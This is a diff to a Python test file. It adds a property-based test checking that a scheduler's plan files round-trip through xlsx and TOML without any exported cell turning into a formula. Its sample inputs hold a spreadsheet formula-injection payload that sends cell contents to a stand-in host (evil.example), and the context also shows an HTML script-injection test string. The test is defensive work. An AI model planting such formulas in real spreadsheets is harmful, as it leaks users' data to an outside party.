@@ -10,8 +10,11 @@ import zipfile
 from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 import pytest
+from hypothesis import HealthCheck, event, given, settings
+from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 from openpyxl.styles import Font
 
@@ -19,9 +22,11 @@ from scheduler.errors import ConfigError, PlanFileError
 from scheduler.model import Area, Measure, Plan, ScheduleSettings
 from scheduler.planfile import read_plan, write_plan
 from scheduler.planfile.limits import ReadLimits
+from scheduler.planfile.toml_file import plan_from_mapping
 from scheduler.store.engine import open_store
 from scheduler.store.followups import AnswerInput, save_answers
 from scheduler.store.plans import find_plan_id, load_plan
+from scheduler.text_safety import first_control_character
 from tests.conftest import ROOT, SEED_PLAN, Cli, write_config
 from tests.test_planfile import HEADER, INSTRUCTIONS, seed
 
@@ -517,3 +522,99 @@ def test_the_html_report_stays_escaped(sqlite_cli: Cli, tmp_path: Path) -> None:
     text = _hostile_report(sqlite_cli, tmp_path, ".html")
     assert "<script" not in text and "<img" not in text and "<b>fet" not in text
     assert "&lt;img src=x onerror=alert(1)&gt;" in text and "&lt;script&gt;" in text
+
+
+# --- 6. the property: any text round-trips or is refused with a message -------------------------
+
+_PREFIXES = ["", "=", "+", "-", "@", "\t", "\t=", " =", "#N/A", "#DIV/0!", "'", "\n", "\r\n"]
+# Any text without control characters (tab and line feed included) ...
+_BODY = st.text(
+    st.characters(exclude_categories=("Cc", "Cs"), include_characters="\t\n"), max_size=24
+)
+# ... and now and then one of these: formulas, emoji, line ends, control characters.
+_SPECIAL = st.sampled_from(
+    [
+        'HYPERLINK("http://evil.example/?leak="&B3,"x")',
+        "😀 🇸🇪",
+        "a\r\nb\rc",
+        "\x07",
+        "\x00",
+        "\x7f",
+        "\u0085",
+        "\uffff",
+        "rad 1\n\n  rad 2 ",
+        "1+1",
+    ]
+)
+_TEXT = st.builds(
+    lambda prefix, body: prefix + body,
+    st.sampled_from(_PREFIXES),
+    st.integers(0, 9).flatmap(lambda n: _SPECIAL if n == 0 else _BODY),
+)
+_NAMED = _TEXT.map(lambda text: text if text.strip() else text + "x")  # titles, names
+_FIELDS = ("title", "cause", "action", "when_text", "responsible_text", "followup_text",
+           "operational_goal")  # fmt: skip
+
+
+@st.composite
+def _raw_plans(draw: st.DrawFn) -> dict[str, object]:
+    areas = []
+    for _ in range(draw(st.integers(1, 2))):
+        measures = []
+        for _ in range(draw(st.integers(0, 2))):
+            measure = {field: draw(_TEXT) for field in _FIELDS}
+            measure["title"] = draw(_NAMED)
+            if draw(st.booleans()):
+                measure["convener"] = draw(_TEXT)
+            measures.append(measure)
+        areas.append({"name": draw(_NAMED), "measures": measures})
+    return {"organisation": draw(_NAMED), "year": 2025, "areas": areas}
+
+
+def _should_refuse(raw: dict[str, Any]) -> bool:
+    """What input is refused for: a control character, an empty title, name, organisation or
+    convener, two areas of one name."""
+    texts = [raw["organisation"]]
+    for area in raw["areas"]:
+        texts.append(area["name"])
+        for measure in area["measures"]:
+            texts += [measure[f] for f in _FIELDS] + [measure.get("convener", "x")]
+            if not measure["title"].strip():
+                return True
+    names = [a["name"].strip() for a in raw["areas"]]
+    return (
+        any(first_control_character(t) is not None for t in texts)
+        or not all(t.strip() for t in [raw["organisation"], *names])
+        or any(not m.get("convener", "x").strip() for a in raw["areas"] for m in a["measures"])
+        or len(set(names)) < len(names)
+    )
+
+
+@settings(
+    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(raw=_raw_plans())
+def test_any_text_round_trips_through_xlsx_and_toml_or_is_refused_at_input(
+    tmp_path: Path, raw: dict[str, Any]
+) -> None:
+    """Leading = + - @, tabs, control characters, emoji and line breaks in every text field:
+    plan → xlsx → plan and plan → TOML → plan give the same plan, no exported cell is a formula;
+    or the input is refused with a message."""
+    try:
+        plan = plan_from_mapping(raw, source="hypothesis.toml")
+    except PlanFileError as refused:
+        event("refused at input")
+        assert _should_refuse(raw), str(refused)
+        assert str(refused).startswith("fil hypothesis.toml")
+        return
+    assert not _should_refuse(raw)
+    event("round-tripped")
+    for suffix in (".xlsx", ".toml"):
+        path = tmp_path / f"plan{suffix}"
+        write_plan(plan, path)
+        assert read_plan(path).plan == plan
+    cells = _string_cells(tmp_path / "plan.xlsx")
+    assert all(
+        kind == "s" or (sheet, coordinate[0]) == ("scheduler", "C")
+        for sheet, coordinate, kind in cells
+    )
